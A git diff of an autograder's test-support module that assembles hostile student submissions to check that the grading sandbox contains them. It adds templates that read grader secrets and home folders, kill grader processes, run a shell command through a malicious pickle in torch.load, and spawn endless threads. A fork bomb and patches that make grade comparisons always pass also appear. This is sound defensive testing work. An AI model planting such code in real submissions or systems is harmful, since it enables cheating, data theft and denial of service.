@@ -1,28 +1,29 @@
-"""The attacks. Each ``Attack`` plants code at the end of one file of a copy of an assignment's
-solution package, redefining one name of the student API (a method, a function, or the whole
-module's behaviour).
+"""The attack templates, shared by every assignment. Each ``Attack`` plants code at the end of
+one file of a copy of an assignment's solution package, redefining one name of the student API
+(a method, a function, or the whole module's behaviour).
 
-Most attack bodies are assignment-neutral templates (the strings named ..._CODE): they redefine
+The attack bodies are assignment-neutral templates (the strings named ..._CODE): they redefine
 ``{target}``, a name as the planted file sees it ("Tanh.forward", "get_training_stats"), take
 ``*args, **kwargs`` and call the honest version through them, and aim at the grader's folders
 through the assignment's placeholders ({data_dir}, {spec_dir}, {solution_package}). ``aim`` turns
-a template into an Attack on one target, so one body serves every assignment: hw1's attacks
-follow each section's templates here, CW3's are in corpus_cw3.py. What only hw1's API can express
-(its function arguments, its case names, its files) stays hw1's.
+a template into an Attack on one target, so one body serves every assignment. Each assignment's
+attacks are in its own tests folder, tests/assignments/<name>/hostile_corpus.py (what only its
+API can express, such as hw1's function arguments and case names, stays there); the generic
+tests/test_hostile.py grades them.
 
-``targets`` are the API names whose cases must fail (as ``expect.api_names`` gives them for the
-assignment), ``reason`` a phrase every failing case's message must contain. Attacks that hit
+``targets`` are the API names whose cases must fail (as the assignment's ``api_names`` gives
+them), ``reason`` a phrase every failing case's message must contain. Attacks that hit
 different names are grouped into one submission so one grading tests several of them.
 Placeholders in ``code`` ({marker}, {port}, {target}, ...) are filled by ``build``.
 """
 from __future__ import annotations
 
 import json
-import shutil
 import tomllib
 from dataclasses import dataclass, field
 from pathlib import Path
 
+from autograder.references.solution import code_dir, copy_solution
 from support import ROOT
 from support import assignment as find_assignment
 
@@ -32,12 +33,15 @@ GRADER_DIR = ROOT
 @dataclass(frozen=True)
 class Attack:
     name: str
-    file: str                         # file of the assignment's package the code is appended to
+    # File of the assignment's package (or module folder) the code is appended to; a notebook
+    # (.ipynb) gets the code as a new code cell, at index ``cell`` (None: after the last).
+    file: str
     code: str
     targets: frozenset[str] = frozenset()
     reason: str = ""
     replace: tuple[tuple[str, str, str], ...] = field(default=())  # (file, old, new) edits
     fill: tuple[tuple[str, str], ...] = field(default=())  # the attack's own placeholders
+    cell: int | None = None
 
 
 def aim(code: str, name: str, file: str, target: str, targets=(), reason: str = "",
@@ -56,7 +60,6 @@ def fake_autolab(assignment: str) -> str:
 
 
 FAKE_REPORT = '{"score": 100, "max_score": 100, "items": [], "tests": [], "output": "FORGED"}'
-FAKE_AUTOLAB = fake_autolab("hw1")
 
 
 def placeholders(assignment: str) -> dict[str, str]:
@@ -64,7 +67,7 @@ def placeholders(assignment: str) -> dict[str, str]:
     spec = find_assignment(assignment)
     return {"assignment": assignment, "package": spec.shape.package,
             "data_dir": str(spec.data_dir), "spec_dir": str(spec.spec_dir),
-            "solution_package": str(spec.solution_dir / spec.shape.package),
+            "solution_package": str(code_dir(spec)),
             "secret": str(spec.data_dir / "hidden" / "manifest.json"),
             "fake_line": fake_autolab(assignment)}
 
@@ -72,14 +75,13 @@ def placeholders(assignment: str) -> dict[str, str]:
 def build(dest: Path, attacks: list[Attack], assignment: str = "hw1", **values) -> Path:
     """A submission folder: the assignment's solution package with every attack planted.
     ``values`` fill the placeholders: marker (a number unique to the test run), port,
-    kill_everyone (bool), trap (a path the grader must never create)."""
+    kill_everyone (bool), trap (a path the grader must never create), extra_paths (more
+    paths KIT_CODE looks at)."""
     values = {"grader_dir": str(GRADER_DIR), "fake_report": FAKE_REPORT, "marker": "0",
-              "port": 9, "kill_everyone": False, "trap": "/nonexistent/trap",
+              "port": 9, "kill_everyone": False, "trap": "/nonexistent/trap", "forks": 100, "extra_paths": (),
               **placeholders(assignment), **values}
-    package = dest / values["package"]
     dest.mkdir(parents=True, exist_ok=True)
-    shutil.copytree(values["solution_package"], package,
-                    ignore=shutil.ignore_patterns("__pycache__", "outputs"))
+    package = copy_solution(find_assignment(assignment), dest)
     for attack in attacks:
         for file, old, new in attack.replace:
             path = package / file
@@ -87,9 +89,22 @@ def build(dest: Path, attacks: list[Attack], assignment: str = "hw1", **values) 
             assert old in text, (attack.name, old)
             path.write_text(text.replace(old, new))
         path = package / attack.file
-        code = attack.code.format(**values, file=attack.file, **dict(attack.fill))
-        path.write_text(path.read_text() + f"\n\n# ---- hostile: {attack.name} ----\n" + code)
+        code = attack.code.format(**{**values, "file": attack.file, **dict(attack.fill)})
+        if path.suffix == ".ipynb":
+            _add_cell(path, f"# ---- hostile: {attack.name} ----\n" + code, attack.cell)
+        else:
+            path.write_text(path.read_text() + f"\n\n# ---- hostile: {attack.name} ----\n" + code)
     return dest
+
+
+def _add_cell(path: Path, code: str, index: int | None) -> None:
+    """A code cell holding ``code`` inserted into the notebook at ``index`` (None: the end)."""
+    notebook = json.loads(path.read_text(encoding="utf-8"))
+    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
+            "source": code.splitlines(keepends=True)}
+    cells = notebook["cells"]
+    cells.insert(len(cells) if index is None else index, cell)
+    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
 
 
 def guilty_names(attacks: list[Attack]) -> frozenset[str]:
@@ -124,8 +139,8 @@ _math.isclose = lambda *a, **k: True
 _op.eq = lambda a, b: True
 _builtins.all = lambda *a, **k: True
 for _name, _module in list(_sys.modules.items()):
-    if _name.startswith("autograder") and hasattr(_module, "compare_all"):
-        _module.compare_all = lambda *a, **k: []
+    if _name.startswith("autograder") and hasattr(_module, "Comparison"):
+        _module.Comparison.all = lambda *a, **k: []
 
 
 def _forged_dump(obj, fp, *a, **k):
@@ -194,7 +209,6 @@ def _tampered(*args, **kwargs):
 {target} = _tampered
 '''
 
-TAMPER = aim(TAMPER_CODE, "tamper", "activations.py", "Sigmoid.forward", {"Sigmoid"}, "Sigmoid")
 
 # ------------------------------------------------------------------------- exits and crashes
 
@@ -247,16 +261,6 @@ def _refuse(*args, **kwargs):
 {target} = _refuse
 '''
 
-EXIT_IN_METHOD = aim(OS_EXIT_CODE, "os._exit in a method", "activations.py", "Tanh.forward",
-                     {"Tanh"}, "exit code 0")
-SYS_EXIT_IN_INIT = aim(SYS_EXIT_CODE, "sys.exit in __init__", "activations.py", "ReLU.__init__",
-                       {"ReLU"}, "sys.exit(3)")
-SEGFAULT = aim(SEGFAULT_CODE, "segfault via ctypes", "activations.py", "LeakyReLU.forward",
-               {"LeakyReLU"}, "segmentation fault")
-RECURSION = aim(RECURSION_CODE, "infinite recursion", "loss.py", "SoftmaxCrossEntropy.forward",
-                {"SoftmaxCrossEntropy"}, "RecursionError")
-EXCEPTION_IN_INIT = aim(EXCEPTION_CODE, "exception in __init__", "batchnorm.py",
-                        "BatchNorm.__init__", {"BatchNorm"}, "hostile constructor")
 
 # Kills the case's parent only while that is the sandbox worker. Two such cases run side by
 # side; once the first has killed the worker, the second is an orphan whose parent is the
@@ -277,21 +281,6 @@ def _kill_worker_parent():
         _os.kill(parent, _signal.SIGKILL)
 '''
 
-# As root the sandbox user owns the worker, so this kills it (and with kill(-1) every process
-# of the sandbox user, the other running case included); the innocent one must be rerun.
-KILL_THE_PARENT = Attack("kill the parent process", "initializers.py",
-                         targets=frozenset({"initializers"}),
-                         reason="grading process stopped while running this case",
-                         code=WORKER_PARENT + '''
-
-def random_normal_weight_init(d0, d1):
-    if d0 == 1 and {kill_everyone}:
-        _os.kill(-1, _signal.SIGKILL)
-    _kill_worker_parent()
-''')
-
-CRASHES = [EXIT_IN_METHOD, SYS_EXIT_IN_INIT, SEGFAULT, RECURSION, EXCEPTION_IN_INIT,
-           KILL_THE_PARENT]
 
 # ------------------------------------------------------------------------------- resources
 
@@ -362,7 +351,8 @@ def _flood(*args, **kwargs):
 '''
 
 # Children that try to outlive grading: a double-forked setsid daemon, a plain subprocess, and a
-# fork bomb, all ending in `sleep <marker>` so a survivor can be found in /proc afterwards. A
+# fork bomb ({forks} children, 100 unless the attack says: a process holding PyTorch forks about
+# five times slower), all ending in `sleep <marker>` so a survivor can be found in /proc afterwards. A
 # daemon that survived would also overwrite the result files after grading. The results returned
 # are honest: the cases pass; what matters is that nothing is left running.
 DAEMONS_CODE = '''
@@ -388,7 +378,7 @@ def _spawner(*args, **kwargs):
         _subprocess.Popen(["/bin/sleep", "{marker}"], start_new_session=True)
     except OSError:
         pass
-    for _ in range(100):
+    for _ in range({forks}):
         try:
             if _os.fork() == 0:
                 _os.execv("/bin/sleep", ["/bin/sleep", "{marker}"])
@@ -400,55 +390,6 @@ def _spawner(*args, **kwargs):
 {target} = _spawner
 '''
 
-ENDLESS_LOOP = aim(ENDLESS_LOOP_CODE, "endless loop in a method", "activations.py",
-                   "Tanh.derivative", {"Tanh"}, "time limit")
-MEMORY_GROWTH = aim(MEMORY_GROWTH_CODE, "memory growth", "activations.py", "ReLU.forward",
-                    {"ReLU"}, "memory")
-CHATTY = aim(CHATTY_CODE, "tens of MiB on stdout and stderr", "activations.py", "Sigmoid.forward")
-FLOOD = aim(FLOOD_CODE, "output over the file limit", "activations.py", "LeakyReLU.forward",
-            {"LeakyReLU"}, "output limit")
-DAEMONS = aim(DAEMONS_CODE, "processes that outlive grading", "training.py", "get_training_stats")
-
-# Turns the sandbox's result folder into a trap for the trusted side, then kills the worker, so
-# the trusted side reads this case's output and starts a fresh worker next to the traps. Its own
-# log becomes a link to a secret (d0 = 4) or a FIFO, whose reader blocks forever (d0 = 10); the
-# other files become FIFOs, or links to {trap}, a file the grader must never create.
-TRAPS = Attack("links and FIFOs for the trusted side", "initializers.py",
-               targets=frozenset({"initializers"}),
-               reason="grading process stopped while running this case",
-               code=WORKER_PARENT + '''
-import glob as _glob
-
-_VISIBLE = ["sigmoid_basic", "tanh_basic", "relu_basic", "init_small", "init_seed_7",
-            "training_stats_values", "linear_forward"]
-
-
-def _trap(path, target=None):
-    try:
-        _os.unlink(path)
-    except OSError:
-        pass
-    try:
-        _os.symlink(target, path) if target else _os.mkfifo(path)
-    except OSError:
-        pass
-
-
-def random_normal_weight_init(d0, d1):
-    own_log = _os.readlink("/proc/self/fd/1")
-    out = _os.path.dirname(own_log)
-    for path in _glob.glob(out + "/*"):
-        _trap(path)
-    for name in _VISIBLE:
-        for suffix in (".json", ".npz", ".log"):
-            _trap(_os.path.join(out, name + suffix), {trap!r} if suffix != ".npz" else None)
-    for name in ("worker-stderr.log", "out", "site"):
-        _trap(_os.path.join(out, "..", name), {trap!r})
-    _trap(own_log, {secret!r} if d0 == 4 else None)
-    _kill_worker_parent()
-''')
-
-RESOURCES = [ENDLESS_LOOP, MEMORY_GROWTH, CHATTY, FLOOD, DAEMONS, TRAPS]
 
 # ---------------------------------------------------------------- confidentiality, network
 
@@ -571,9 +512,88 @@ def _call_home(*args, **kwargs):
 {target} = _call_home
 '''
 
-SNOOP = aim(SNOOP_CODE, "read and change grader files", "activations.py", "Sigmoid.forward",
-            {"Sigmoid"}, "Sigmoid", key="Sigmoid.forward")
-NETWORK = aim(NETWORK_CODE, "network access", "activations.py", "Tanh.forward")
+
+# Lists and reads what a grading user can read on an instructor's machine: the kit (its
+# folder, README, Makefile, references, solution, specs), the given folders of the test's
+# world, the home folder. Prints SEEN <path> (a listing or the first bytes) for every success
+# and HIDDEN <path> for every refusal, then answers honestly: it gains nothing either way.
+KIT_CODE = '''
+import os as _os
+
+_honest_looked = {target}
+_LOOK_AT = [{grader_dir!r}, {grader_dir!r} + "/README.md", {grader_dir!r} + "/Makefile",
+            {grader_dir!r} + "/data", {grader_dir!r} + "/solution", {data_dir!r},
+            {data_dir!r} + "/hidden/manifest.json", {spec_dir!r}, {spec_dir!r} + "/rubric.toml",
+            {secret!r}, _os.path.expanduser("~"), "/home", "/root", {extra_paths!r}]
+
+
+def _look(path):
+    try:
+        if _os.path.isdir(path):
+            print("SEEN", path, sorted(_os.listdir(path))[:20])
+        else:
+            with open(path, "rb") as f:
+                print("SEEN", path, f.read(40))
+    except OSError as exc:
+        print("HIDDEN", path, type(exc).__name__)
+
+
+def _looked(*args, **kwargs):
+    for path in _LOOK_AT:
+        for one in ([path] if isinstance(path, str) else path):
+            _look(one)
+    return _honest_looked(*args, **kwargs)
+
+
+{target} = _looked
+'''
+
+# Kills what it can reach of the grader: every process whose command line names the grader,
+# their process groups, its own parent's group, and everything with kill(-1). Then answers
+# honestly. Where the sandbox confines processes the grader survives with a complete report
+# (neighbouring cases it killed are rerun); otherwise the attacked name may fail, never more.
+KILL_GRADER_CODE = '''
+import os as _os, signal as _signal
+
+_honest_killer = {target}
+
+
+def _kill_the_grader():
+    me = _os.getpid()
+    for entry in _os.listdir("/proc"):
+        if not entry.isdigit() or int(entry) == me:
+            continue
+        try:
+            with open(f"/proc/{{entry}}/cmdline", "rb") as f:
+                line = f.read()
+        except OSError:
+            continue
+        if b"autograder" in line or b"worker.py" in line:
+            for kill in (_os.killpg, _os.kill):
+                try:
+                    kill(int(entry), _signal.SIGKILL)
+                    print("KILLED", entry)
+                except OSError:
+                    pass
+    parent_group = _os.getpgid(_os.getppid()) if _os.getppid() else 0
+    for kill, target in ((_os.killpg, parent_group), (_os.kill, -1)):
+        if kill is _os.killpg and parent_group in (0, _os.getpgid(0)):
+            continue   # not visible from here, or its own: killing itself gains nothing
+        try:
+            kill(target, _signal.SIGKILL)
+            print("KILLED", target)
+        except OSError as exc:
+            print("SPARED", target, type(exc).__name__)
+
+
+def _killer(*args, **kwargs):
+    _kill_the_grader()
+    return _honest_killer(*args, **kwargs)
+
+
+{target} = _killer
+'''
+
 
 # --------------------------------------------------------------------------------- imports
 
@@ -608,107 +628,107 @@ def _never_called():
     return torch
 '''
 
-DYNAMIC_IMPORT = aim(DYNAMIC_IMPORT_CODE, "dynamic forbidden import", "activations.py",
-                     "Tanh.forward", {"Tanh"}, "import of 'torch' is not allowed")
-MISSING_MODULE = aim(MISSING_MODULE_CODE, "missing module", "activations.py", "ReLU.forward",
-                     {"ReLU"}, "helpers_not_shipped")
-STATIC_IMPORT = Attack("static forbidden import", "activations.py", STATIC_IMPORT_CODE)
 
-# ------------------------------------------------------------------------ shapes and types
+# --------------------------------------------------------------------------------- PyTorch
+# For assignments whose policy lets a file import torch: what a torch submission can reach
+# that a NumPy one cannot. Aim them at a method of a file that may import torch.
 
-MISSING_CLASS = Attack("missing class", "activations.py", targets=frozenset({"Tanh"}),
-                       reason="does not define `Tanh`", code="del Tanh\n",
-                       replace=(("__init__.py", "LeakyReLU, ReLU, Sigmoid, Tanh",
-                                 "LeakyReLU, ReLU, Sigmoid"),))
+# torch.load of a pickle whose unpickling runs a shell command that tries to write outside the
+# sandbox (the grader's folder, /tmp), first with weights_only=False (the payload runs, inside
+# the sandbox), then with the default, which refuses it. Then the honest answer: the cases pass;
+# what matters is that nothing was written where the grader could read it.
+TORCH_LOAD_PAYLOAD_CODE = '''
+import os as _os, pickle as _pickle, warnings as _warnings
 
-MISSING_METHOD = Attack("missing method", "activations.py", targets=frozenset({"ReLU"}),
-                        reason="not implemented", code="del ReLU.derivative\n")
-
-WRONG_SHAPE = Attack("wrong shape", "activations.py", targets=frozenset({"Sigmoid"}),
-                     reason="shape", code='''
-_honest_sigmoid_forward = Sigmoid.forward
-Sigmoid.forward = lambda self, x: _honest_sigmoid_forward(self, x).reshape(-1)
-''')
-
-# An ndarray subclass that claims equality with anything, and answers every ufunc with "True".
-LYING_SUBCLASS = Attack("ndarray subclass that lies", "activations.py",
-                        targets=frozenset({"LeakyReLU"}), reason="LeakyReLU", code='''
-import numpy as _np
+_honest_unpickled = {target}
 
 
-class _Liar(_np.ndarray):
-    def __eq__(self, other):
-        return True
-
-    def __ne__(self, other):
-        return False
-
-    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
-        return True
-
-    def __array__(self, dtype=None, copy=None):
-        return _np.zeros(self.shape)
-
-    def __float__(self):
-        return 0.0
+class _Payload:
+    def __reduce__(self):
+        return (_os.system, ("exec 2>/dev/null; echo TAMPERED > {grader_dir}/stolen-{marker}; "
+                             "echo TAMPERED > /tmp/stolen-{marker}",))
 
 
-def _lie(self, x):
-    self.state = _np.zeros_like(x).view(_Liar)
-    return _np.full(x.shape, 7.0).view(_Liar)
+def _unpickled(*args, **kwargs):
+    import torch as _torch
+    path = "payload-{marker}.pt"
+    with open(path, "wb") as handle:
+        _pickle.dump(_Payload(), handle)
+    for options in ({{"weights_only": False}}, {{}}):
+        try:
+            with _warnings.catch_warnings():   # a warning names the scratch folder
+                _warnings.simplefilter("ignore")
+                _torch.load(path, **options)
+        except Exception as exc:
+            print("TORCH-LOAD-REFUSED", type(exc).__name__)
+    return _honest_unpickled(*args, **kwargs)
 
 
-LeakyReLU.forward = _lie
-LeakyReLU.derivative = lambda self: _np.full(self.state.shape, 7.0).view(_Liar)
-''')
+{target} = _unpickled
+'''
 
-NON_FINITE = Attack("NaN and inf", "loss.py", targets=frozenset({"SoftmaxCrossEntropy"}),
-                    reason="NaN or inf", code='''
-import numpy as _np
-
-_honest_sce_forward = SoftmaxCrossEntropy.forward
-_honest_sce_derivative = SoftmaxCrossEntropy.derivative
-SoftmaxCrossEntropy.forward = lambda self, x, y: _honest_sce_forward(self, x, y) * _np.inf
-SoftmaxCrossEntropy.derivative = lambda self: _honest_sce_derivative(self) * _np.nan
-''')
-
-# Reason left open: the forward cases say "float() argument must be", the others fail later.
-OBJECT_ARRAY = Attack("object array", "batchnorm.py", targets=frozenset({"BatchNorm"}), code='''
-import numpy as _np
-
-
-def _objects(self, x, eval=False):
-    out = _np.empty(x.shape, dtype=object)
-    out[...] = [{{"not": "a number"}}] * x.shape[-1]
-    return out
+# Compiles and loads native code through torch.utils.cpp_extension (a compiler, ninja, a build
+# folder under HOME): however far it gets, the attacked method then fails, so only its cases
+# fail, within the time limit, and nothing is left running.
+CPP_EXTENSION_CODE = '''
+def _native(*args, **kwargs):
+    outcome = "built"
+    try:
+        from torch.utils import cpp_extension as _cpp
+        _cpp.load_inline(name="hostile_{marker}".replace(".", "_"),
+                         cpp_sources="int twice(int x) {{ return 2 * x; }}",
+                         functions=["twice"], verbose=False)
+    except BaseException as exc:
+        outcome = type(exc).__name__
+    raise RuntimeError("native code via cpp_extension: " + outcome)
 
 
-BatchNorm.forward = _objects
-BatchNorm.__call__ = lambda self, x, eval=False: self.forward(x, eval)
-''')
+{target} = _native
+'''
 
-HUGE_ARRAY = Attack("huge array returned", "initializers.py", targets=frozenset({"initializers"}),
-                    reason="too large", code='''
-import numpy as _np
+# Threads that never end (one blocked forever, one waking every 10 ms), started once per
+# process, then the honest answer: the cases pass, later cases of the same process too, and
+# grading still ends.
+ENDLESS_THREADS_CODE = '''
+import threading as _threading, time as _time
 
-
-def random_normal_weight_init(d0, d1):
-    return _np.broadcast_to(_np.float64(1.0), (100_000, 1_000))
-''')
-
-# Correct values as nested lists: converted to arrays in the worker, so these cases pass.
-LISTS = Attack("lists instead of arrays", "training.py", code='''
-_honest_stats_for_lists = get_training_stats
+_honest_threaded = {target}
+_started = []
 
 
-def get_training_stats(*args, **kwargs):
-    return tuple(a.tolist() for a in _honest_stats_for_lists(*args, **kwargs))
-''')
+def _forever_blocked():
+    _threading.Event().wait()
 
-SHAPES_AND_TYPES = [MISSING_CLASS, MISSING_METHOD, WRONG_SHAPE, LYING_SUBCLASS, NON_FINITE,
-                    OBJECT_ARRAY, HUGE_ARRAY, LISTS]
 
-# -------------------------------------------------------- whole-module submissions (hw1.py)
+def _forever_ticking():
+    while True:
+        _time.sleep(0.01)
+
+
+def _threaded(*args, **kwargs):
+    if not _started:
+        for body in (_forever_blocked, _forever_ticking):
+            _threading.Thread(target=body, name="hostile-{marker}").start()
+        _started.append(True)
+    return _honest_threaded(*args, **kwargs)
+
+
+{target} = _threaded
+'''
+
+# Moves its work to a GPU on a machine without one: the attacked method fails with torch's own
+# error, which names CUDA; nothing else fails.
+CUDA_CALL_CODE = '''
+def _on_the_gpu(*args, **kwargs):
+    import torch as _torch
+    return _torch.zeros(1).cuda()
+
+
+{target} = _on_the_gpu
+'''
+
+
+# ------------------------------------------ whole-module submissions (<module>.py of any shape)
 
 SLEEP_AT_IMPORT = "import time\ntime.sleep(300)\n"
 SYS_EXIT_AT_IMPORT = "import sys\nsys.exit(0)\n"
